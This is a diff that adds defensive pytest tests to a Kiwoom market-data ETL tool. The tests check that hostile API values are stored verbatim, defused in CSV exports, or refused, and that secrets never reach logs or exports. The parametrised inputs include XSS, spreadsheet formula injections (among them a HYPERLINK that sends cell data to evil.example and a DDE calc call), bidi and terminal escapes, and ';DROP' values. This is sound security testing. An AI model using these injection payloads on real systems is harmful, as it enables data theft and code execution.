@@ -29,7 +29,7 @@ import pytest
 from click.testing import CliRunner
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
-from sqlalchemy import Engine, select, text
+from sqlalchemy import Engine, func, select, text
 from sqlalchemy.engine import make_url
 
 from etl.cli import cli
@@ -676,3 +676,244 @@ def test_an_endless_answer_is_read_no_further_than_the_cap(tmp_path: Path) -> No
     assert result.exit_code == 1, result.output
     assert f"over {MAX_ANSWER_BYTES // 2**20} MiB, not read further" in result.output
     assert _Flood.sent < 64 * 2**20  # the client hung up; it did not take the whole flood
+
+
+# Hostile market data: the instrument lists (ka10099/ka10100), the bars (ka20006/ka10081), Kiwoom's realised profit
+# (ka10074), through the simulator on loopback into a real database, and out through the exports.
+
+MARKET_END = date(2026, 11, 20)  # a Friday: the simulator's today
+INSTRUMENT_TEXT = [
+    MARKUP,
+    "<script>alert(1)</script>",
+    "삼성\u202e207940",
+    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "@SUM(1+1)",
+    'a "quoted", comma\nand a newline',
+    "가" * 10_000,
+]
+
+
+def _market_jobs(url: str, engine: Engine, tmp_path: Path, simulator: Simulator, hour: int = 8) -> Any:
+    from etl.app.market import MarketJobs
+    from etl.clock import KST
+    from tests.support import Clock, make_settings, sim_accounts
+
+    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=hour), tzinfo=KST))
+    settings = make_settings(url, str(engine.url), tmp_path / "state", sim_accounts(simulator))
+    return MarketJobs(settings, engine, clock=clock)
+
+
+def _market_simulator() -> Simulator:
+    return Simulator(
+        accounts=[make_account(1, 3)], page_size=7, today=lambda: MARKET_END, retry_after=None, rate_per_second=1000
+    )
+
+
+@pytest.mark.parametrize("field", ["name", "upName", "marketName"])
+@pytest.mark.parametrize("hostile", INSTRUMENT_TEXT, ids=range(len(INSTRUMENT_TEXT)))
+def test_an_instrument_s_text_is_kept_as_sent_and_defused_in_a_csv_export(
+    tmp_path: Path, field: str, hostile: str
+) -> None:
+    from etl.apis.instruments import Instrument
+    from etl.app.market import refresh_instruments
+
+    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
+    engine = make_engine(url)
+    migrated(engine)
+    simulator = _market_simulator()
+    simulator.inject("bad_value", api_id="ka10099", field=field, value=hostile)  # KOSPI's list, its first row
+    with serve(simulator) as sim:
+        jobs = _market_jobs(sim, engine, tmp_path, simulator)
+        done = refresh_instruments(jobs)
+        jobs.close()
+    assert done.ok, [r.error for r in done.results]
+    column = {"name": "name", "upName": "sector", "marketName": "market_name"}[field]
+    with engine.connect() as connection:
+        kept = connection.execute(select(Instrument.__table__.c[column]).where(Instrument.stock_code == "005930"))
+        assert kept.scalar_one() == hostile.strip(" ")
+    engine.dispose()
+    out = tmp_path / "instruments.csv"
+    result = invoke("export", "instruments", "--database-url", url, "--out", str(out))
+    assert result.exit_code == 0, result.output
+    (row,) = [r for r in csv_rows(out.read_bytes().decode("utf-8")) if r["stock_code"] == "005930"]
+    assert row[column] == guarded(hostile)
+
+
+@pytest.mark.parametrize(
+    ("api_id", "field", "value", "named"),
+    [
+        ("ka10099", "code", "0001a0", "not a KRX code"),  # lowercase
+        ("ka10099", "code", "05930", "not a KRX code"),
+        ("ka10099", "code", "=1+1", "not a KRX code"),
+        ("ka10099", "name", "삼성\x00전자", "NUL"),
+        ("ka20006", "cur_prc", "2521.27", "not an integer"),
+        ("ka20006", "cur_prc", "25+2127", "not an integer"),
+        ("ka20006", "trde_qty", "-393564", "below 0"),
+        ("ka20006", "dt", "", "a bar needs its day"),
+        ("ka20006", "dt", "20261123", "after 2026-11-20"),  # Monday: no bar yet on Friday evening
+        ("ka10081", "trde_qty", "-5", "below 0"),
+        ("ka10081", "dt", "2026112\u202e0", "not a YYYYMMDD date"),
+    ],
+)
+def test_a_hostile_market_page_is_refused_naming_field_and_value_and_its_request_loads_nothing(
+    tmp_path: Path, api_id: str, field: str, value: str, named: str
+) -> None:
+    from etl.apis.charts import IndexDaily, StockDaily
+    from etl.apis.instruments import Instrument
+    from etl.app.market import daily_bars, refresh_instruments
+    from etl.jobs.snapshot import Snapshotter
+
+    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
+    engine = make_engine(url)
+    migrated(engine)
+    simulator = _market_simulator()
+    simulator.inject("bad_value", api_id=api_id, field=field, value=value, after=1)  # the second request's page
+    with serve(simulator) as sim:
+        jobs = _market_jobs(sim, engine, tmp_path, simulator, hour=18)
+        assert all(s.ok for s in Snapshotter(jobs.settings, engine, jobs.fetcher, clock=jobs.clock).take())
+        done = refresh_instruments(jobs) if api_id == "ka10099" else daily_bars(jobs, MARKET_END, MARKET_END)
+        jobs.close()
+    (failed,) = [r for r in done.results if not r.ok]
+    assert failed.reason == "payload_refused" and field in (failed.error or "") and named in (failed.error or "")
+    assert repr(value)[1:-1] in (failed.error or "") or value == ""
+    (refusal,) = failed.refused
+    refused_asked = refusal.split(" page ")[0].removeprefix("list ")  # the request whose page the fault spoiled
+    table, key = {
+        "ka10099": (Instrument.__table__, None),
+        "ka20006": (IndexDaily.__table__, IndexDaily.index_code),
+        "ka10081": (StockDaily.__table__, StockDaily.stock_code),
+    }[api_id]
+    with engine.connect() as connection:
+        kept = connection.execute(
+            text("SELECT asked FROM raw_responses WHERE api_id = :a AND asked = :c"),
+            {"a": api_id, "c": refused_asked},
+        ).all()
+        assert kept  # the refused page is kept for replay
+        if key is not None:
+            counted = select(func.count()).select_from(table)
+            rows = connection.execute(counted.where(key == refused_asked)).scalar_one()
+            others = connection.execute(counted.where(key != refused_asked)).scalar_one()
+            assert rows == 0 and others > 0  # the other requests loaded
+        else:  # KOSPI's list (its second page spoiled) loaded none of its codes, the other lists theirs
+            listed = select(Instrument.market).where(Instrument.run_id == failed.run_id)
+            markets = set(connection.execute(listed).scalars())
+            assert refused_asked == "0" and "KOSPI" not in markets and {"KOSDAQ", "ETF"} <= markets
+    engine.dispose()
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "named"),
+    [
+        ("buy_amt", "1000.5", "not an integer"),  # a fraction in a whole-won amount: never rounded
+        ("tdy_sel_pl", "59813.041", "more than 2 decimal places"),
+        ("tdy_sel_pl", "1e3", "not a decimal number"),
+        ("dt", "20261231", "after 2026-11-20"),
+    ],
+)
+def test_a_hostile_realised_profit_page_is_refused_and_its_month_loads_nothing(
+    engine: Engine, tmp_path: Path, field: str, value: str, named: str
+) -> None:
+    from etl.apis.realized import AccountRealizedDaily
+    from etl.clock import KST
+    from etl.jobs.realized import RealizedJob
+    from etl.sim.history import make_history
+    from tests.support import Clock, make_settings, sim_accounts
+
+    start = date(2026, 10, 19)
+    account = make_account(1, 3)
+    account.history = make_history(start, (MARKET_END - start).days + 1, seed=3)
+    months = {day.replace(day=1) for day in (d.day for d in account.history.realized(MARKET_END))}
+    assert len(months) == 2  # sales in October and in November: one request a month
+    simulator = Simulator(accounts=[account], today=lambda: MARKET_END, retry_after=None, rate_per_second=1000)
+    simulator.inject("bad_value", api_id="ka10074", field=field, value=value)  # October's request
+    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=21), tzinfo=KST))
+    with serve(simulator) as sim:
+        settings = make_settings(sim, str(engine.url), tmp_path / "state", sim_accounts(simulator))
+        job = RealizedJob(settings, engine, clock=clock)
+        (done,) = job.run(since=start, until=MARKET_END)
+        job.fetcher.close()
+    assert done.reason == "payload_refused" and field in (done.error or "") and named in (done.error or "")
+    assert value in (done.error or "")
+    with engine.connect() as connection:
+        days = connection.execute(select(AccountRealizedDaily.trade_date)).scalars().all()
+    assert days and all(day.month == 11 for day in days)  # October's request loaded nothing, November's loaded
+
+
+def test_no_market_or_realised_profit_run_writes_a_key_or_a_token_anywhere(
+    tmp_path: Path, caplog: pytest.LogCaptureFixture
+) -> None:
+    from etl.app.market import daily_bars, refresh_instruments
+    from etl.clock import KST
+    from etl.jobs.realized import RealizedJob
+    from etl.sim.history import make_history
+    from tests.support import Clock, make_settings, sim_accounts
+
+    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
+    engine = make_engine(url)
+    migrated(engine)
+    account = make_account(1, 3)
+    account.history = make_history(date(2026, 11, 2), 19, seed=3)
+    simulator = Simulator(accounts=[account], today=lambda: MARKET_END, retry_after=None, rate_per_second=1000)
+    simulator.inject("bad_value", api_id="ka10100", field="name", value="")  # a refusal's error too
+    clock = Clock(datetime.combine(MARKET_END, datetime.min.time().replace(hour=21), tzinfo=KST))
+    with serve(simulator) as sim, caplog.at_level(logging.DEBUG):
+        settings = make_settings(sim, url, tmp_path / "state", sim_accounts(simulator))
+        jobs = _market_jobs(sim, engine, tmp_path, simulator)
+        refresh_instruments(jobs, codes=["005930"])
+        refresh_instruments(jobs)
+        daily_bars(jobs, date(2026, 11, 2), MARKET_END)
+        jobs.close()
+        job = RealizedJob(settings, engine, clock=clock)
+        job.run(since=date(2026, 11, 2))
+        job.fetcher.close()
+    tokens = list(simulator.issued)
+    secrets = [account.appkey, account.secretkey, *tokens]
+    assert tokens and all(len(s) >= 8 for s in secrets), [len(s) for s in secrets]
+    with engine.connect() as connection:
+        stored = [
+            *map(str, connection.execute(text("SELECT * FROM raw_responses")).all()),
+            *map(str, connection.execute(text("SELECT * FROM etl_runs")).all()),
+        ]
+    engine.dispose()
+    out = tmp_path / "runs.csv"
+    assert invoke("export", "etl_runs", "--database-url", url, "--out", str(out)).exit_code == 0
+    written = [caplog.text, *stored, out.read_text(encoding="utf-8")]
+    assert any("ka10100" in w for w in stored) and any("refused" in w or "needs its name" in w for w in written)
+    for secret in secrets:
+        assert not any(secret in w for w in written), secret[:4]
+
+
+@pytest.mark.parametrize("fmt", ["ghostfolio", "portfolio-performance"])
+def test_an_export_s_notes_show_a_hostile_code_from_the_ledger_as_escapes(tmp_path: Path, fmt: str) -> None:
+    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
+    engine = make_engine(url)
+    migrated(engine)
+    code = "\x1b[2J\u202e12"  # no instrument has it: the notes list it
+    buy = ledger_line(
+        DAY, 1, "장내매수", 100_000, stk_cd=code, stk_nm="x", trde_qty_jwa_cnt="10", cntr_dt=f"{DAY:%Y%m%d}"
+    )
+    load(engine, tmp_path, [], [buy])
+    engine.dispose()
+    out = tmp_path / "out.file"
+    result = invoke("export", "account_transactions", "--format", fmt, "--database-url", url, "--out", str(out))
+    assert result.exit_code == 0, result.output
+    assert "not in instruments" in result.stderr and "\\x1b[2J\\u202e12" in result.stderr, result.stderr
+    assert "\x1b" not in result.output and "\u202e" not in result.output
+
+
+@pytest.mark.parametrize("index", ["1", "0001", "KOSPI", "", "001;DROP", "００１", "٠٠١", "001\n"])
+def test_returns_refuses_a_benchmark_that_is_not_three_ascii_digits_in_one_line(tmp_path: Path, index: str) -> None:
+    url = f"sqlite:///{tmp_path / 'kiwoom_etl.db'}"
+    result = invoke("returns", "--database-url", url, "--benchmark", index)
+    assert result.exit_code == 2 and "expected a three-digit index code" in result.output, result.output
+    assert "Traceback" not in result.output and not (tmp_path / "kiwoom_etl.db").exists()
+
+
+@pytest.mark.parametrize("code", ["0001a0", "abcdef", "5930", "0059301", "A005930", "００５９３０", "005930;DROP", ""])
+def test_instruments_refuses_a_code_the_lists_would_refuse_before_asking(tmp_path: Path, code: str) -> None:
+    env = {"KIWOOM_APPKEY": "app-key", "KIWOOM_SECRETKEY": "secret-key", "KIWOOM_BASE_URL": "http://127.0.0.1:1"}
+    result = invoke("instruments", "--database-url", f"sqlite:///{tmp_path / 'db'}", "--code", code, env=env)
+    assert result.exit_code == 2 and "six letters or digits" in result.output, result.output
+    assert "Traceback" not in result.output and not (tmp_path / "db").exists()
